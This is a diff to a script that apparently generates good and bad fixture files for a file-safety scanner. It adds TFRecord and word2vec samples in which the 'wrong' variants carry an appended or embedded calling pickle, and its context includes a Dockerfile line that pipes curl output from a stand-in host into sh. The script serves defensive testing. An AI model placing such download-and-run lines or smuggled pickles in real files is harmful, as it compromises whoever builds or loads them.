@@ -355,3 +355,32 @@ put("ini/wrong/setup.cfg", OPTIONS + b"cmdclass =\n    build_py = a.Build\n")
 IMAGE = b"FROM python:3.11-slim\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"
 put("dockerfile/right/Dockerfile", IMAGE)
 put("dockerfile/wrong/Dockerfile", IMAGE + b"RUN curl https://models.invalid/a | sh\n")
+
+
+# Records of examples: a value of the wrong one is a pickle that calls.
+def crc32c(data):
+    sum_ = 0xFFFFFFFF
+    for byte in data:
+        sum_ ^= byte
+        for _ in range(8):
+            sum_ = sum_ >> 1 ^ (0x82F63B78 if sum_ & 1 else 0)
+    sum_ ^= 0xFFFFFFFF
+    return struct.pack("<I", ((sum_ >> 15 | sum_ << 17) + 0xA282EAD8) & 0xFFFFFFFF)
+
+
+def tfrecord(value):
+    feature = lambda key, list_: field(1, field(1, key) + field(2, list_))
+    data = field(1, feature("label", field(3, field(1, varint(1)))) + feature("image", field(1, field(1, value))))
+    length = struct.pack("<Q", len(data))
+    return length + crc32c(length) + data + crc32c(data)
+
+
+put("tfrecord/right.tfrecord", tfrecord(b"\x07" * 32) + tfrecord(PICTURE))
+put("tfrecord/wrong.tfrecord", tfrecord(b"\x07" * 32) + tfrecord(CALL))
+
+# Vectors of words; behind the end of the wrong one lies a pickle.
+VECTORS = b"2 2\n" + b"".join(word + b" " + struct.pack("<ff", 1.5, -2.25) + b"\n" for word in (b"</s>", b"heart"))
+put("word2vec/right.bin", VECTORS)
+put("word2vec/wrong.bin", VECTORS + CALL)
+put("word-vectors/right.vec", b"2 3\nheart 0.1 -2 3e-5\nlung 1 2 3\n")
+put("word-vectors/wrong.vec", b"2 3\nheart 0.1 -2 3e-5\nlung 1 2\n")
